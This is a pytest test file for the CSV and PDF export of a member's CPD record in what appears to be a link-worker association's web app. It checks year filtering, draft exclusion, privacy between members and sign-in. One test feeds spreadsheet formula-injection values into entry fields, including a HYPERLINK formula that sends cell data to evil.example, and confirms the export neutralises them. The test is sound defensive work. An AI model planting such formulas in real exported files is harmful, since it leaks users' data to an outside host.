"""Exporting the CPD record: CSV (one row per entry, safe in a spreadsheet) and PDF, for a year or all years."""

import csv
import datetime as dt
import io

import pytest
import time_machine

from nalw.cpd.models import ActivityType
from tests.cpd.record_steps import pdf_page_count, pdf_streams
from tests.factories import REFLECTION, CpdEntryFactory, MembershipFactory, PersonFactory
from tests.helpers import sign_in

NOW = dt.datetime(2026, 2, 10, 12, 0, tzinfo=dt.UTC)  # CPD year 2025 to 2026

CSV_HEADER = [
    "Date",
    "CPD year",
    "Title",
    "Type of activity",
    "Hours",
    "Provider",
    "Standards",
    "Status",
    "What I did",
    "What I learned",
    "How it changes my practice",
    "Impact on the people I support",
    "Evidence files",
]


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def person(client):
    person = MembershipFactory(person=PersonFactory(name="Robin Hart")).person
    sign_in(client, person)
    return person


@pytest.fixture
def record(person):
    """Two entries this CPD year (one a draft), one the year before; and someone else's."""
    CpdEntryFactory(
        person=person,
        done_on=dt.date(2025, 6, 2),
        hours=2.5,
        standards=("S1", "S2"),
        title="Café conversations: what matters to you",
        provider="Riverside PCN",
    )
    CpdEntryFactory(
        person=person,
        done_on=dt.date(2026, 1, 12),
        hours=1,
        standards=("S3",),
        title="Unfinished reading",
        complete=False,
    )
    CpdEntryFactory(
        person=person,
        done_on=dt.date(2024, 11, 5),
        hours=6,
        standards=("S5",),
        activity_type=ActivityType.CONFERENCE,
        title="Link Worker Day 2024",
    )
    CpdEntryFactory(
        person=MembershipFactory().person, done_on=dt.date(2025, 7, 1), hours=3, title="Someone else's learning"
    )


def csv_rows(response):
    body = response.get_data()
    assert body.startswith("\ufeff".encode())  # a byte-order mark: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8").removeprefix("\ufeff"))))


def test_the_csv_for_a_year_has_one_row_per_entry_with_its_standards_and_reflection(client, record):
    response = client.get("/cpd/export.csv?year=2025")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="nalw-cpd-2025-2026.csv"'
    header, *rows = csv_rows(response)
    assert header == CSV_HEADER
    assert rows == [
        [
            "2025-06-02",
            "2025 to 2026",
            "Café conversations: what matters to you",
            "Course or training",
            "2.5",
            "Riverside PCN",
            "S1 Person-centred, strengths-based practice; S2 Holistic wellbeing",
            "Complete",
            REFLECTION["what_i_did"],
            REFLECTION["what_i_learned"],
            REFLECTION["practice_change"],
            REFLECTION["impact"],
            "",
        ],
        [
            "2026-01-12",
            "2025 to 2026",
            "Unfinished reading",
            "Course or training",
            "1",
            "",
            "S3 Reducing health inequalities",
            "Draft",
            "",
            "",
            "",
            "",
            "",
        ],
    ]


def test_the_csv_for_all_years_has_every_entry_of_the_member_and_no_one_elses(client, record):
    response = client.get("/cpd/export.csv?year=all")

    assert response.headers["Content-Disposition"] == 'attachment; filename="nalw-cpd-all-years.csv"'
    _, *rows = csv_rows(response)
    assert [(row[0], row[1], row[2], row[4], row[6]) for row in rows] == [
        ("2024-11-05", "2024 to 2025", "Link Worker Day 2024", "6", "S5 Safeguarding"),
        (
            "2025-06-02",
            "2025 to 2026",
            "Café conversations: what matters to you",
            "2.5",
            "S1 Person-centred, strengths-based practice; S2 Holistic wellbeing",
        ),
        ("2026-01-12", "2025 to 2026", "Unfinished reading", "1", "S3 Reducing health inequalities"),
    ]
    assert "Someone else's learning" not in response.get_data(as_text=True)


def test_the_csv_defaults_to_the_current_year(client, record):
    response = client.get("/cpd/export.csv")

    assert response.headers["Content-Disposition"] == 'attachment; filename="nalw-cpd-2025-2026.csv"'
    assert [row[2] for row in csv_rows(response)[1:]] == [
        "Café conversations: what matters to you",
        "Unfinished reading",
    ]


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your certificate")',
        "+44 20 7946 0000 called",
        "-10 tips for better referrals",
        "@SUM(A1:A9)",
    ],
)
def test_text_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, person, title):
    CpdEntryFactory(
        person=person,
        done_on=dt.date(2025, 6, 2),
        title=title,
        provider="=1+1",
        reflection={**REFLECTION, "impact": "@cmd"},
    )

    [row] = csv_rows(client.get("/cpd/export.csv?year=2025"))[1:]

    assert row[2] == "'" + title
    assert row[5] == "'=1+1"
    assert row[11] == "'@cmd"


def test_the_csv_for_a_year_with_no_entries_has_only_the_header(client, person):
    assert csv_rows(client.get("/cpd/export.csv?year=2020")) == [CSV_HEADER]


@pytest.mark.parametrize("year", ["2026", "1999"])
def test_an_export_for_a_year_in_the_future_or_before_2000_is_not_found(client, person, year):
    assert client.get(f"/cpd/export.csv?year={year}").status_code == 404
    assert client.get(f"/cpd/export.pdf?year={year}").status_code == 404


def test_the_pdf_for_a_year_carries_the_members_name_and_that_years_complete_entries(client, record):
    response = client.get("/cpd/export.pdf?year=2025")

    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == 'attachment; filename="nalw-cpd-2025-2026.pdf"'
    assert response.headers["Cache-Control"] == "private, no-store"
    pdf = response.get_data()
    assert pdf.startswith(b"%PDF-")
    assert pdf_page_count(pdf) >= 1
    text = pdf_streams(pdf)
    assert b"/Title (CPD record of Robin Hart)" in text
    # Headings become the PDF's bookmarks, so the entries listed can be read back.
    assert b"CPD year 2025 to 2026: 2.5 of 20 hours" in text
    assert b"Link Worker Day 2024" not in text
    assert b"Unfinished reading" not in text  # drafts are left out of the record
    assert b"Someone else" not in text


def test_the_pdf_for_all_years_has_a_summary_for_each_year(client, record):
    response = client.get("/cpd/export.pdf?year=all")

    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == 'attachment; filename="nalw-cpd-all-years.pdf"'
    text = pdf_streams(response.get_data())
    assert b"/Title (CPD record of Robin Hart)" in text
    assert b"CPD year 2024 to 2025: 6 of 20 hours" in text
    assert b"CPD year 2025 to 2026: 2.5 of 20 hours" in text
    assert b"5 November 2024: Link Worker Day 2024" in text
    assert b"Unfinished reading" not in text
    assert b"Someone else" not in text


def test_exports_need_sign_in(client):
    for path in ("/cpd/export.csv?year=all", "/cpd/export.pdf?year=all"):
        response = client.get(path)
        assert response.status_code == 302
        assert response.location.startswith("/account/sign-in")
